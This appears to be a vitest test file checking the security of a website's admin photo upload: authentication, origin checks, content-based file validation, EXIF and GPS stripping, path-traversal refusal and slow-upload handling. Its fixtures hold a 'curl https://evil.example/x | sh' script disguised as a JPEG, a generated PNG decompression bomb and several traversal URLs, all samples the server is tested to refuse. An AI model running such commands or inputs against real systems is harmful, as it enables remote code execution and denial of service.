/**
 * The owner's photo uploads on the real build (decision 0030): refused without
 * a session (401) or from another origin (403) with nothing read or stored;
 * hostile files judged by their content (a script named .jpg, a decompression
 * bomb, a file over the limit, a HEIC photo) and refused with a Bulgarian
 * message on the field; a missing alt text refused with what was typed kept;
 * a good photo published upright, without its EXIF and GPS data; and, over
 * real connections, a slow upload taken however long past
 * REQUEST_TIMEOUT_SECONDS it moves, one that stops refused with the page
 * saying so. Nothing refused leaves a file behind, in the uploads or the
 * temporary folder, or an "uploaded" entry in the audit log. A good photo's
 * sizes are made at upload into DATA_DIR/photos/ (never into public/ or
 * app/generated/) and served at /photos/<name> (decision 0042); when they
 * cannot be made, the owner is told and nothing is kept. The
 * test images are made here, with sharp and by hand. The build itself is
 * simulated (a real one is in tests/e2e/gallery-upload.spec.ts).
 */
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { connect, type AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { priceFormValues } from "~/admin/content-forms.server";
import { adminGallery, adminPublished } from "~/content/admin";
import { galleryDefaults } from "~/content/gallery";
import { uploadedFiles } from "~/lib/photo-files.server";
import { MAX_PIXELS, MAX_UPLOAD_BYTES } from "../../server/admin/photos";
import { IMMUTABLE } from "../../server/cache-policy";
import { attributeOf, elementsOf, type HtmlElement } from "../../server/html";
import { TEST_ORIGIN } from "../fixtures/enquiry";
import { startAdminSite, type AdminSite } from "./admin-site";

let site: AdminSite;
let dataDir: string;
let token: string;

/** The uploads' temporary folders go into a folder of this file's own (os.tmpdir() follows TMPDIR): what is left there is theirs. */
const ownTmp = mkdtempSync(path.join(os.tmpdir(), "gallery-upload-tmp-"));
const tmpBefore = process.env.TMPDIR;
process.env.TMPDIR = ownTmp;
afterAll(() => {
  if (tmpBefore === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = tmpBefore;
  rmSync(ownTmp, { recursive: true, force: true });
});

/**
 * A site publishing into `dataDir`, its rendering simulated: the version's content is what these tests look at.
 * The rendering always fails, so a save is answered as a failed publish (500) after its version is stored.
 */
function startSite(dataDir: string, env: NodeJS.ProcessEnv = {}) {
  return startAdminSite({
    env,
    publishing: {
      dataDir,
      render: async () => {
        throw new Error("simulated: no render in this test");
      },
    },
  });
}

beforeAll(async () => {
  dataDir = mkdtempSync(path.join(os.tmpdir(), "gallery-upload-test-"));
  site = await startSite(dataDir);
  token = await site.session((await site.user()).id);
}, 60_000);

afterAll(async () => {
  await site?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

/** A photo as a phone takes it: stored sideways with EXIF orientation 6, with the camera's make and a GPS position. */
async function phonePhoto(width = 1200, height = 800) {
  return sharp({ create: { width, height, channels: 3, background: "#3a7f4c" } })
    .jpeg({ quality: 80 })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: "TestPhone", Model: "Camera 1" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "42/1 52/1 3000/100", GPSLongitudeRef: "E", GPSLongitude: "25/1 19/1 0/1" },
    })
    .toBuffer();
}

/** The EXIF pointer to the GPS data (tag 0x8825, little-endian as sharp writes it). */
const hasGps = (exif: Buffer | undefined) => Boolean(exif?.includes(Buffer.from([0x25, 0x88])));

function crc32(bytes: Buffer) {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

function pngChunk(type: string, content: Buffer) {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), content]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid black-and-white PNG of `side` × `side` pixels: a few kilobytes that decode to `side`² pixels. */
function pngBomb(side: number) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([1, 0, 0, 0, 0], 8); // 1 bit per pixel, greyscale
  const rows = Buffer.alloc((1 + Math.ceil(side / 8)) * side); // filter byte 0 and black pixels, row after row
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(rows, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

type Fields = Record<string, string>;
const goodFields: Fields = {
  intent: "upload",
  service: "gardening",
  caption: "Нова морава пред къща",
  alt: "Окосена морава пред къща с дървена ограда",
  date: "2026-11-20",
};

async function multipart(fields: Fields, files: Record<string, { data: Buffer; name: string; type: string }>) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.set(name, value);
  for (const [name, file] of Object.entries(files)) form.set(name, new Blob([new Uint8Array(file.data)], { type: file.type }), file.name);
  const request = new Request("http://localhost/", { method: "POST", body: form });
  return { body: Buffer.from(await request.arrayBuffer()), type: request.headers.get("content-type")! };
}

async function upload(
  files: Record<string, { data: Buffer; name: string; type: string }>,
  { fields = goodFields, session = token as string | null, origin = TEST_ORIGIN as string | null } = {},
) {
  const { body, type } = await multipart(fields, files);
  const response = await site.app.inject({
    method: "POST",
    url: "/admin/gallery",
    headers: {
      "content-type": type,
      "accept-encoding": "identity",
      ...(origin ? { origin } : {}),
      ...(session ? { cookie: `admin=${session}` } : {}),
    },
    payload: body,
  });
  return { status: response.statusCode, body: response.body };
}

const photo = (data: Buffer, name = "IMG_0001.jpg", type = "image/jpeg") => ({ photo: { data, name, type } });
/** What is stored: photos kept for publishing, and the versions made. */
const stored = async (of: AdminSite = site) => {
  const { uploadsDir } = of.publisher!.store;
  return { kept: existsSync(uploadsDir) ? readdirSync(uploadsDir) : [], versions: (await of.publisher!.store.list()).length };
};
/** Every file's name under a folder of the project. */
const filesUnder = (dir: string): string[] =>
  existsSync(dir) ? readdirSync(dir, { recursive: true, encoding: "utf8" }).map((name) => path.basename(name)) : [];
const keptPhotos = async () => (await await stored()).kept.filter((name) => name.endsWith(".jpg"));
const uploadTemps = () => readdirSync(ownTmp).filter((name) => name.startsWith("upload-"));
/** The audit log's "uploaded" entries (the owner's account page shows them as „Качена снимка“). */
const uploadedEntries = async (of: AdminSite = site) =>
  (await of.admin.auth.auditLog((await of.user()).id, 1000)).filter((entry) => entry.action === "upload").length;

describe("who may upload", () => {
  it("refuses an upload without a session (401), or with an ended one, and stores nothing", async () => {
    const before = await stored();
    const data = await phonePhoto();
    expect((await upload(photo(data), { session: null })).status).toBe(401);
    expect((await upload(photo(data), { session: "forged-token-forged-token-forged-token-0000" })).status).toBe(401);
    expect(await stored()).toEqual(before);
  });

  it("refuses an upload from another origin, or without one (403), even signed in, and stores nothing", async () => {
    const before = await stored();
    const data = await phonePhoto();
    expect((await upload(photo(data), { origin: "https://evil.example" })).status).toBe(403);
    expect((await upload(photo(data), { origin: null })).status).toBe(403);
    expect(await stored()).toEqual(before);
  });
});

describe("hostile and unusable files", () => {
  it("judges a file by its content: a script named .jpg and sent as image/jpeg is not a photo", async () => {
    const before = await stored();
    const uploaded = await uploadedEntries();
    const script = Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n<script>alert(1)</script>\n");
    const answer = await upload(photo(script, "holiday.jpg"));
    expect(answer.status).toBe(400);
    expect(answer.body).toContain(adminGallery.errors.notImage);
    // What was typed is kept.
    expect(answer.body).toContain(goodFields.alt);
    expect(await stored()).toEqual(before);
    expect(uploadTemps()).toEqual([]);
    expect(await uploadedEntries()).toBe(uploaded);
  });

  it("refuses a decompression bomb (a small PNG of more than MAX_PIXELS) without decoding it", async () => {
    const side = Math.ceil(Math.sqrt(MAX_PIXELS)) + 1000;
    const bomb = pngBomb(side);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const meta = await sharp(bomb, { limitInputPixels: false }).metadata();
    expect([meta.format, meta.width, meta.height]).toEqual(["png", side, side]);
    const before = await stored();
    const answer = await upload(photo(bomb, "bomb.png", "image/png"));
    expect(answer.status).toBe(400);
    expect(answer.body).toContain(adminGallery.errors.tooManyPixels);
    expect(await stored()).toEqual(before);
  });

  it("refuses a 50 MB file with a Bulgarian message, keeping nothing of it", async () => {
    const before = await stored();
    const uploaded = await uploadedEntries();
    const big = Buffer.concat([await phonePhoto(), Buffer.alloc(50 * 1024 * 1024 - 100_000, 7)]);
    expect(big.length).toBeGreaterThan(MAX_UPLOAD_BYTES);
    const answer = await upload(photo(big, "big.jpg"));
    expect(answer.status).toBe(400);
    expect(answer.body).toContain(adminGallery.errors.tooLarge);
    expect(await stored()).toEqual(before);
    expect(uploadTemps()).toEqual([]);
    expect(await uploadedEntries()).toBe(uploaded);
  });

  it("refuses a HEIC photo (one an iPhone did not turn into JPEG) with its own message", async () => {
    // The start of a HEIC file: its ISO media "ftyp" box with the brand "heic".
    const heic = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypheic\0\0\0\0mif1heic", "latin1"), Buffer.alloc(4096)]);
    const answer = await upload(photo(heic, "IMG_0002.HEIC", "image/heic"));
    expect(answer.status).toBe(400);
    expect(answer.body).toContain(adminGallery.errors.heic);
  });

  it("asks for the alt text in Bulgarian, keeps what was typed and the photo, and publishes nothing", async () => {
    const versions = (await stored()).versions;
    const answer = await upload(photo(await phonePhoto()), { fields: { ...goodFields, alt: "  " } });
    expect(answer.status).toBe(400);
    expect(answer.body).toContain(adminGallery.errors.alt);
    expect(answer.body).toContain(goodFields.caption);
    // The photo is kept: the form sends its name again, so it need not be chosen again.
    const kept = /name="kept\.photo" value="(upload-[0-9a-f]{16}\.jpg)"/.exec(answer.body)?.[1];
    expect(kept).toBeDefined();
    expect(await keptPhotos()).toContain(kept);
    expect((await stored()).versions).toBe(versions);

    // Sent again with the alt text and without the file: published with the kept photo.
    const again = await upload({}, { fields: { ...goodFields, "kept.photo": kept! } });
    expect(again.status).toBe(500);
    await site.publisher!.settled();
    const version = (await site.publisher!.store.list())[0]!;
    const { entries } = (await site.publisher!.store.overlays(version.id)).gallery!;
    expect(entries[0]).toMatchObject({ file: kept, alt: goodFields.alt });
  });
});

describe("a good photo", () => {
  it("is published upright, without EXIF or GPS, with its entry validated by the gallery schema", async () => {
    const input = await phonePhoto(1200, 800);
    const inputMeta = await sharp(input).metadata();
    expect(inputMeta.orientation).toBe(6);
    expect(hasGps(inputMeta.exif)).toBe(true);
    const before = await phonePhoto(1000, 700);

    const answer = await upload(
      { ...photo(input), before: { data: before, name: "IMG_0000.jpg", type: "image/jpeg" } },
      { fields: { ...goodFields, beforeAlt: "Същата морава, обрасла, преди косенето" } },
    );
    expect(answer.status).toBe(500);
    await site.publisher!.settled();
    const version = (await site.publisher!.store.list())[0]!;
    expect(version.change).toEqual(["gallery"]);
    const content = site.publisher!.store.versionContentDir(version.id);
    const entry = (await site.publisher!.store.overlays(version.id)).gallery!.entries[0]!;
    const earlier = entry.before!;
    expect(entry).toMatchObject({
      service: "gardening",
      caption: goodFields.caption,
      alt: goodFields.alt,
      date: goodFields.date,
      before: { alt: "Същата морава, обрасла, преди косенето" },
    });
    // Its sizes were made at upload, into DATA_DIR/photos/, and recorded in the entry (decision 0042).
    expect(entry.image).toMatchObject({ width: 800, height: 1200, widths: [400, 680, 800] });
    expect(earlier.image).toMatchObject({ width: 700, height: 1000, widths: [400, 680, 700] });
    for (const image of [entry.image, earlier.image]) {
      expect(uploadedFiles(image)).toHaveLength(9);
      for (const name of uploadedFiles(image)) expect(existsSync(path.join(dataDir, "photos", name)), name).toBe(true);
    }
    // Nothing of it in the code's folders: the repository's images and their manifest are as the build made them.
    for (const hash of [entry.image.hash, earlier.image.hash]) {
      expect(filesUnder("public").filter((name) => name.includes(hash))).toEqual([]);
      expect(filesUnder("app/generated").filter((name) => name.includes(hash))).toEqual([]);
    }
    expect(readFileSync("app/generated/images.json", "utf8")).not.toContain("upload-");
    for (const [file, upright] of [
      [entry.file, [800, 1200]],
      [earlier.file, [700, 1000]],
    ] as const) {
      const meta = await sharp(path.join(content, "gallery", file)).metadata();
      expect(meta.format).toBe("jpeg");
      expect([meta.width, meta.height]).toEqual(upright);
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(hasGps(meta.exif)).toBe(false);
    }
  });

  it("is served at /photos/<name> from DATA_DIR/photos, cached for good; nothing else is served from there", async () => {
    const version = (await site.publisher!.store.list()).find((record) => record.change.includes("gallery"))!;
    const entry = (await site.publisher!.store.overlays(version.id)).gallery!.entries[0]!;
    const get = (url: string) => site.app.inject({ method: "GET", url });
    for (const [format, type] of [
      ["avif", "image/avif"],
      ["webp", "image/webp"],
      ["jpg", "image/jpeg"],
    ] as const) {
      const response = await get(`/photos/photo-400.${entry.image.hash}.${format}`);
      expect(response.statusCode).toBe(200);
      expect(response.headers["content-type"]).toBe(type);
      expect(response.headers["cache-control"]).toBe(IMMUTABLE);
      expect(response.rawPayload.equals(readFileSync(path.join(dataDir, "photos", `photo-400.${entry.image.hash}.${format}`)))).toBe(true);
      expect((await sharp(response.rawPayload).metadata()).width).toBe(400);
    }
    expect((await site.app.inject({ method: "HEAD", url: `/photos/photo-680.${entry.image.hash}.webp` })).statusCode).toBe(200);
    // Another name, the kept original, a path out of the folder (plain or escaped): the not-found page.
    writeFileSync(path.join(dataDir, "photos", "notes.txt"), "not a photo");
    for (const url of [
      `/photos/photo-400.0000000000.avif`,
      `/photos/photo-400.${entry.image.hash}.png`,
      `/photos/${entry.file}`,
      "/photos/notes.txt",
      "/photos/..%2fcontent%2fgallery.json",
      "/photos/%2e%2e/content/gallery.json",
      "/photos/../content/gallery.json",
      "/photos/..%2f..%2fpackage.json",
      `/photos/%2e%2e%2fphotos%2fphoto-400.${entry.image.hash}.avif`,
      `/photos//photo-400.${entry.image.hash}.avif`,
    ]) {
      const response = await get(url);
      expect(response.statusCode, url).toBe(404);
      expect(response.headers["content-type"], url).toMatch(/^text\/html/);
    }
  });

  it("can be edited and removed by the owner, each change published", async () => {
    // Make the last version's edits the current ones, as a successful build would.
    const latest = (await site.publisher!.store.list())[0]!;
    await site.publisher!.store.setLive(latest.id);
    await site.publisher!.store.adoptContent(latest.id);
    const [entry] = (await site.publisher!.store.currentOverlays()).gallery!.entries;
    expect(readdirSync(path.join(dataDir, "content", "gallery"))).toContain(entry!.file);

    const send = (url: string, body: Fields) =>
      site.app.inject({
        method: "POST",
        url,
        headers: { "content-type": "application/x-www-form-urlencoded", origin: TEST_ORIGIN, cookie: `admin=${token}` },
        payload: new URLSearchParams(body).toString(),
      });
    const post = (body: Fields) => send("/admin/gallery", body);
    const edit = { intent: "edit", id: entry!.id, service: "cleaning", caption: "Друг надпис", alt: entry!.alt, date: entry!.date };
    const future = await post({ ...edit, date: "2999-01-01", beforeAlt: entry!.before!.alt });
    expect(future.statusCode).toBe(400);
    expect(future.body).toContain(adminGallery.errors.date);

    expect((await post({ ...edit, beforeAlt: entry!.before!.alt })).statusCode).toBe(500);
    await site.publisher!.settled();
    const edited = (await site.publisher!.store.overlays((await site.publisher!.store.list())[0]!.id)).gallery!.entries;
    expect(edited[0]).toMatchObject({ id: entry!.id, service: "cleaning", caption: "Друг надпис" });

    // With an uploaded photo in the gallery, the other pages' edits still save.
    await site.publisher!.store.setLive((await site.publisher!.store.list())[0]!.id);
    const prices = await send("/admin/prices/gardening", {
      ...priceFormValues(await site.publisher!.store.currentOverlays()),
      "cents.gardening-mowing": "0,15",
    });
    expect(prices.statusCode, prices.body.slice(0, 200)).toBe(500);
    await site.publisher!.settled();

    const removing = await post({ intent: "remove", id: entry!.id });
    expect(removing.statusCode).toBe(500);
    // Its version could not be published: the photo is still on the site, so still listed with its forms, saying why.
    const card = [...elementsOf(removing.body)].find((element) => attributeOf(element, "aria-labelledby") === `entry-${entry!.id}`);
    const inside = (node: HtmlElement): HtmlElement[] => (node.childNodes ?? []).flatMap((child) => [child, ...inside(child)]);
    expect(card).toBeDefined();
    expect(
      inside(card!)
        .map((node) => node.value ?? "")
        .join(""),
    ).toContain(adminPublished.failed);
    expect(inside(card!).filter((node) => node.tagName === "form").length).toBeGreaterThan(0);
    await site.publisher!.settled();
    const removed = await site.publisher!.store.overlays((await site.publisher!.store.list())[0]!.id);
    expect(removed.gallery?.entries ?? []).toEqual([]);
  });
});

describe("the demo illustrations (decision 0051)", () => {
  const post = (body: Fields) =>
    site.app.inject({
      method: "POST",
      url: "/admin/gallery",
      headers: { "content-type": "application/x-www-form-urlencoded", origin: TEST_ORIGIN, cookie: `admin=${token}` },
      payload: new URLSearchParams(body).toString(),
    });
  const latest = async () => (await site.publisher!.store.overlays((await site.publisher!.store.list())[0]!.id)).gallery;

  it("are hidden one by one or all at once, and shown again, each change published; an unknown one is refused", async () => {
    await site.publisher!.settled();
    const [first, second] = galleryDefaults;
    expect((await post({ intent: "hide", id: first!.id })).statusCode).toBe(500);
    await site.publisher!.settled();
    expect((await latest())?.hidden).toEqual([first!.id]);
    await site.publisher!.store.setLive((await site.publisher!.store.list())[0]!.id);

    expect((await post({ intent: "hide", id: second!.id })).statusCode).toBe(500);
    await site.publisher!.settled();
    expect((await latest())?.hidden).toEqual([first!.id, second!.id]);
    await site.publisher!.store.setLive((await site.publisher!.store.list())[0]!.id);

    expect((await post({ intent: "show", id: first!.id })).statusCode).toBe(500);
    await site.publisher!.settled();
    expect((await latest())?.hidden).toEqual([second!.id]);
    await site.publisher!.store.setLive((await site.publisher!.store.list())[0]!.id);

    expect((await post({ intent: "hide", id: "upload-0123456789abcdef" })).statusCode).toBe(400);
    expect((await post({ intent: "hide", id: "../gallery.json" })).statusCode).toBe(400);

    const all = await post({ intent: "hide-all" });
    expect(all.statusCode).toBe(500);
    await site.publisher!.settled();
    expect((await latest())?.hidden).toEqual(galleryDefaults.map((entry) => entry.id));
    await site.publisher!.store.setLive((await site.publisher!.store.list())[0]!.id);

    expect((await post({ intent: "show-all" })).statusCode).toBe(500);
    await site.publisher!.settled();
    expect((await latest())?.hidden).toBeUndefined();
  });
});

describe("when its sizes cannot be made (a full disk)", () => {
  let broken: AdminSite;
  const brokenDataDir = mkdtempSync(path.join(os.tmpdir(), "gallery-upload-test-"));
  beforeAll(async () => {
    // DATA_DIR/photos is a file: no size of any photo can be written there.
    writeFileSync(path.join(brokenDataDir, "photos"), "");
    broken = await startSite(brokenDataDir);
  }, 60_000);
  afterAll(async () => {
    await broken?.close();
    rmSync(brokenDataDir, { recursive: true, force: true });
  });

  it("tells the owner the photo was not stored, keeps what was typed, and leaves no file behind", async () => {
    const owner = await broken.session((await broken.user()).id);
    const uploaded = await uploadedEntries(broken);
    const { body, type } = await multipart(goodFields, photo(await phonePhoto()));
    const answer = await broken.app.inject({
      method: "POST",
      url: "/admin/gallery",
      headers: { "content-type": type, "accept-encoding": "identity", origin: TEST_ORIGIN, cookie: `admin=${owner}` },
      payload: body,
    });
    expect(answer.statusCode).toBe(503);
    expect(answer.body).toContain(adminGallery.errors.notStored);
    expect(answer.body).toContain(goodFields.caption);
    expect(answer.body).not.toContain('name="kept.photo"');
    expect(await stored(broken)).toEqual({ kept: [], versions: 0 });
    expect(readFileSync(path.join(brokenDataDir, "photos"), "utf8")).toBe("");
    expect(uploadTemps()).toEqual([]);
    expect(await uploadedEntries(broken)).toBe(uploaded);
  });
});

describe("over a phone's connection (a real socket)", () => {
  // Short limits, so that each check takes seconds: the upload's own are far longer in use.
  const REQUEST_TIMEOUT_SECONDS = 2;
  const UPLOAD_STALL_SECONDS = 2;
  let slow: AdminSite;
  let port: number;
  let owner: string;
  const slowDataDir = mkdtempSync(path.join(os.tmpdir(), "gallery-upload-test-"));
  beforeAll(async () => {
    slow = await startSite(slowDataDir, {
      REQUEST_TIMEOUT_SECONDS: String(REQUEST_TIMEOUT_SECONDS),
      UPLOAD_STALL_SECONDS: String(UPLOAD_STALL_SECONDS),
    });
    await slow.app.listen({ port: 0, host: "127.0.0.1" });
    port = (slow.app.server.address() as AddressInfo).port;
    owner = await slow.session((await slow.user()).id);
  }, 60_000);
  afterAll(async () => {
    await slow?.close();
    rmSync(slowDataDir, { recursive: true, force: true });
  });

  /** A photo of a few megabytes, as a phone's is: noise does not compress. */
  const bigPhoto = () =>
    sharp({ create: { width: 1500, height: 1100, channels: 3, background: "#000000", noise: { type: "gaussian", mean: 128, sigma: 60 } } })
      .jpeg({ quality: 95, chromaSubsampling: "4:4:4" })
      .toBuffer();

  /**
   * Sends the form's headers, then its body `chunk` bytes every `everyMs`, up
   * to `stopAt` bytes (all of it by default); resolves with what the server
   * answered once it closed the connection, or once it answered and the body
   * was all sent.
   */
  async function sendSlowly(body: Buffer, type: string, { chunk = 50_000, everyMs = 100, stopAt = body.length } = {}) {
    const socket = connect({ port, host: "127.0.0.1" });
    let received = "";
    socket.on("data", (data) => (received += data.toString("utf8")));
    socket.on("error", () => {});
    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    await new Promise((resolve) => socket.once("connect", resolve));
    socket.write(
      `POST /admin/gallery HTTP/1.1\r\nHost: localhost\r\nOrigin: ${TEST_ORIGIN}\r\nCookie: admin=${owner}\r\n` +
        `Content-Type: ${type}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`,
    );
    for (let sent = 0; sent < stopAt && !socket.destroyed; sent += chunk) {
      socket.write(body.subarray(sent, Math.min(sent + chunk, stopAt)));
      await new Promise((resolve) => setTimeout(resolve, everyMs));
    }
    // A sender that stopped: the server must end it (the test's own bound is vitest's timeout).
    await closed;
    return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(received)?.[1]), body: received };
  }

  it("takes a photo sent at 500 KB/s, for longer than REQUEST_TIMEOUT_SECONDS, as long as it keeps moving", async () => {
    const data = await bigPhoto();
    const { body, type } = await multipart(goodFields, photo(data));
    // At 500 KB/s the form takes three times REQUEST_TIMEOUT_SECONDS or more.
    expect(body.length).toBeGreaterThan(3 * REQUEST_TIMEOUT_SECONDS * 500_000);
    const uploaded = await uploadedEntries(slow);
    const answer = await sendSlowly(body, type);
    expect(answer.status, answer.body.slice(0, 300)).toBe(500);
    expect(await uploadedEntries(slow)).toBe(uploaded + 1);
    await slow.publisher!.settled();
  });

  it("refuses a photo that stops arriving: 408, the form saying so with what was typed, nothing kept", async () => {
    const before = await stored(slow);
    const uploaded = await uploadedEntries(slow);
    // The text fields first: those that arrived are kept in the form.
    const { body, type } = await multipart(goodFields, photo(await bigPhoto()));
    const answer = await sendSlowly(body, type, { stopAt: 300_000 });
    expect(answer.status).toBe(408);
    expect(answer.body).toContain(adminGallery.errors.interrupted);
    expect(answer.body).toContain(goodFields.caption);
    expect(await stored(slow)).toEqual(before);
    expect(uploadTemps()).toEqual([]);
    expect(await uploadedEntries(slow)).toBe(uploaded);
  });
});
